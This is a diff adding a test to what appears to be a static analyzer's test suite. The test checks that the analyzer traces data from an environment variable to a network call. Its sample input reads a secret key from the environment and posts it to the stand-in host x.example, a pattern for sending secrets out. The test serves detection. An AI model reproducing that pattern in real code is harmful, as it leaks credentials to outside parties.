@@ -383,3 +383,10 @@ def test_a_method_does_not_repeat_what_its_receiver_was_made_with(facts: Callabl
 
 def test_text_for_a_buffer_is_no_file(powers: Callable[[str], set[str]]) -> None:
     assert powers("import io, pandas\npandas.read_csv(io.StringIO('a,b'))") == set()
+
+
+def test_a_flow_tells_where_its_data_was_read(facts: Callable[[str], tuple[Fact, ...]]) -> None:
+    code = "import os, requests\nkey = os.environ['KEY']\ntext = {'k': [key]}\nrequests.post('https://x.example', json=text)"
+    (flow,) = [fact for fact in facts(code) if fact.capability == "flow"]
+    assert flow.steps == ("os._Environ.__getitem__ in line 2", "requests.post")
+    assert flow.span.line == 4
